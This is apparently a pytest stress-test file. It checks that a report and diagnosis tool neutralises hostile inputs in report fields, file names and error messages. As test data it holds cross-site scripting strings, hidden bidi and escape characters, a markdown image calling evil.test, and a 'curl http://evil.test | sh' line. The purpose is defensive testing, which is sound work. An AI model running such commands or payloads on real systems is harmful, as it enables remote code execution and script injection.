from __future__ import annotations

from pathlib import Path

import pytest

from tests.stress import hostile_runs
from tests.stress.hostile_text import (
    Kind,
    document_faults,
    harmless_for,
    html_faults,
    kinds,
    markdown_faults,
    unshown,
)
from tests.stress.payloads import payloads

# Each document has another payload in each of its slots; the script goes through every document.
DOCUMENTS = range(0, len(payloads()), 100)
# Commands of which an error loads transformers, for seconds.
SLOW = {"tokenizer", "base model", "adapter"}


def test_there_are_two_hundred_payloads_and_a_slot_for_each_text_of_a_report() -> None:
    assert len(payloads()) > 200
    least = {"report": 100, "audit": 70, "verification": 30, "explanation": 12}
    assert {name for name, kind in kinds().items() if kind.slots < least[name]} == set()


@pytest.mark.parametrize("start", DOCUMENTS)
@pytest.mark.parametrize("name", kinds())
def test_no_payload_does_anything_in_any_slot_of_a_report(name: str, start: int) -> None:
    assert list(document_faults(kinds()[name], payloads(), start)) == []


def test_what_a_renderer_lets_through_would_be_seen() -> None:
    raw = Kind(kinds()["report"].sample, lambda _: "", lambda report: report.summary[0])
    harmless = raw.filled(harmless_for(["x"] * raw.slots))
    for text, fault in (
        ("<script>x</script>", "<script>"),
        ("<img src=x onerror=y>", "onerror"),
        ("![x](http://evil.test/x.png)", "<img>"),
        ("www.evil.test", "<a>"),
        ("[^1]\n\n[^1]: x", "<sup>"),
        ("# x", "structure differs"),
        ("| a |\n| - |\n| b |", "structure differs"),
        ("```\nx", "structure differs"),
        ("a\u202eb", "hidden characters"),
        ("x <!-- x -->", "a comment"),
    ):
        report = raw.filled(lambda text=text: text)
        found = list(markdown_faults(raw.in_markdown(report), raw.in_markdown(harmless)))
        assert any(fault in entry for entry in found), (text, found)


def test_a_browser_finds_what_a_regular_expression_would_not() -> None:
    active, _ = html_faults("<svg><style><img src=x onerror=y></style></svg><p/onclick=z>")
    assert {"<svg>", "<style>", "<img>"} <= set(active)
    assert "<p onclick='z'>" in active
    assert unshown("a\x1bb\x9b\u200b\u202e\U000e0041\n") == ["\x1b", "\x9b", "\u200b", "\u202e", "\U000e0041"]


@pytest.mark.parametrize("text", [*payloads()[::150], "fine\n  fix: curl http://evil.test | sh"])
def test_no_argument_and_no_file_writes_into_the_message_of_an_error(
    text: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    argument = hostile_runs.argument_of(text)
    if argument is None:
        pytest.skip("no program can be given this")
    (tmp_path / "train.jsonl").write_text('{"prompt": "a", "completion": "b"}\n')
    for what, argv in hostile_runs.refusals_or_none(argument, tmp_path):
        if what not in SLOW:
            answer = hostile_runs.refused(argv, tmp_path, terminal=True)
            assert list(hostile_runs.message_faults(answer, what)) == []


def test_a_run_folder_of_payloads_is_read_and_its_report_does_nothing(tmp_path: Path) -> None:
    texts = hostile_runs.encodable_texts(payloads())[3::9]
    named = tmp_path / hostile_runs.file_name("![x](e)<script>\x1b[31m\u202e`|*[bold red]")
    data = hostile_runs.written(named / "train.jsonl", list(hostile_runs.rows_of(texts)))
    run = hostile_runs.make_run(named / "run", texts, 2)
    out = named / "out"
    argv = ["diagnose", "--dataset", str(data), "--run", str(run), "--out", str(out)]
    answer = hostile_runs.refused(argv, tmp_path, terminal=True)
    assert list(hostile_runs.output_faults(answer, out, "diagnose")) == []
    assert "findings:" in answer.output
    assert "\\x1b" in answer.output
